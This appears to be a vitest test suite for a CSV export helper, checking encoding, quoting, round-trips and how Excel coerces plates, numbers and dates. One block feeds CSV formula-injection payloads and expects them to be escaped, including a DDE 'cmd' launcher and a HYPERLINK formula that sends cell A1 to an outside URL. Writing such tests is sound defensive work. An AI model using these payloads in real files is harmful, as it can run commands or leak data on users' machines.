import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { formatCsv } from '#shared/csv.ts';

const read = (file: string) => parse(file, { bom: true, relax_column_count: false }) as string[][];
const bytes = (file: string) => [...Buffer.from(file)];

describe('T-03: an export opens in spreadsheets', () => {
  it('as UTF-8 with a byte order mark, with the line ends of RFC 4180', () => {
    const file = formatCsv([
      ['Plate', 'Customer'],
      ['KZT482', 'Mere Tūhoe'],
    ]);
    expect(bytes(file).slice(0, 3)).toEqual([0xef, 0xbb, 0xbf]);
    expect(file.slice(1)).toBe('Plate,Customer\r\nKZT482,Mere Tūhoe\r\n');
  });

  it.each([
    ['a comma', 'Tūhoe, Mere'],
    ['quotes', 'Mere "the boss" Tūhoe'],
    ['a new line', 'Mere\nTūhoe'],
    ['an old line end', 'Mere\r\nTūhoe'],
    ['what looks like a line end', '",\r\n"=1+1'],
    ['Chinese', '陈伟'],
    ['an emoji', '🚗'],
    ['nothing', ''],
    ['markup', '<script>alert(1)</script>'],
    ['a very long text', 'x'.repeat(40_000)],
  ])('%s comes back unchanged', (_, text) => {
    expect(read(formatCsv([['before', text, 'after']]))).toEqual([['before', text, 'after']]);
  });

  it.each([
    '=1+1',
    '=HYPERLINK("https://example.nz/?x="&A1,"Click")',
    '+64215550143',
    '-2+3',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '  =1+1',
    '＝1+1',
    "=cmd|' /C calc'!A0",
  ])('%j is a text and not a formula', (text) => {
    const [[cell = ''] = []] = read(formatCsv([[text]]));
    expect(cell).toBe(`'${text}`);
  });

  it.each(['KZT482', "O'Brien", 'A=B', '21/11/2026', '1043', 'a-b', '陈=伟'])('%j is unchanged', (text) => {
    expect(read(formatCsv([[text]]))).toEqual([[text]]);
  });

  it.each([
    ...['007', '0215550143', '0610', '00', '1E5', '12e10', '5E1', '1795747916619258', '17957479166192581234'],
    ...['JUN99', 'jun 1', '1JAN', '12-DEC-99', 'MAY5', 'SEPT9', '1-2', '3-0', '1/2', '12:30', '9 am', 'TRUE', 'false'],
    ...['0.12345678901234567', '1.2345678901234567'],
  ])('%s is kept as it is', (text) => {
    const [[cell = ''] = []] = read(formatCsv([[text]]));
    expect(open(text)).not.toBe(text);
    expect(open(cell)).toBe(text);
  });

  it.each(['KZT482', 'ABC123', 'June Smith', 'May', 'Mere', '14 Road', 'B1E5C'])('%s is not marked', (text) => {
    expect(read(formatCsv([[text]]))).toEqual([[text]]);
    expect(open(text)).toBe(text);
  });

  it.each([
    ['128450', 128_450],
    ['5.5', 5.5],
    ['0', 0],
    ['0.5', 0.5],
    ['123456789012345', 123_456_789_012_345],
  ])('%s stays a number', (text, number) => {
    expect(read(formatCsv([[text]]))).toEqual([[text]]);
    expect(open(text)).toBe(number);
  });

  it.each(['2026-11-18', '18/11/2026'])('%s stays a date', (text) => {
    expect(read(formatCsv([[text]]))).toEqual([[text]]);
  });

  it('20,000 plates are read back as they are, or as the number that they are', () => {
    const chance = newChance(35);
    const letters = 'ABCDEFGJMNORSTUVY0123456789';
    const plates = Array.from({ length: 20_000 }, () =>
      Array.from({ length: 1 + (chance() % 6) }, () => letters[chance() % letters.length]).join(''),
    );
    plates.push(
      ...['JAN', 'FEB', 'MAR', 'APR', 'MAY', 'JUN', 'DEC'].flatMap((month) => [`${month}1`, `1${month}`, month]),
    );
    const cells = read(formatCsv(plates.map((plate) => [plate]))).flat();
    expect(cells.map((cell) => String(open(cell)))).toEqual(plates);
  });
});

/** Returns pseudo-random whole numbers. */
const newChance = (seed: number) => {
  let state = seed;
  return () => {
    state = (state * 1_103_515_245 + 12_345) % 2 ** 31;
    return state >> 8;
  };
};

/**
 * Reads a cell as Excel does when it opens a CSV file: formulas are evaluated, and what looks like a number, a date, a
 * time or a truth value becomes one. A number keeps fifteen digits.
 */
const open = (cell: string): string | number | boolean | Date => {
  const formula = /^="(.*)"$/.exec(cell);
  if (formula) return formula[1] ?? '';
  const text = cell.trim();
  if (/^(true|false)$/i.test(text)) return /^t/i.test(text);
  if (/^\d*\.?\d+(e[+-]?\d+)?$/i.test(text)) return Number(Number(text).toPrecision(15));
  const month = '(jan|feb|mar|apr|may|jun|jul|aug|sept?|oct|nov|dec)[a-z]*';
  const day = '\\d{1,4}';
  const between = '[ ./-]?';
  const dates = [
    `^${day}${between}${month}(${between}${day})?$`,
    `^${month}${between}${day}$`,
    '^\\d{1,4}[/-]\\d{1,2}([/-]\\d{1,4})?$',
    '^\\d{1,2}:\\d\\d?(:\\d\\d?)?( ?[ap]m?)?$|^\\d{1,2} [ap]m?$',
  ];
  return dates.some((date) => new RegExp(date, 'i').test(text)) ? new Date(0) : cell;
};
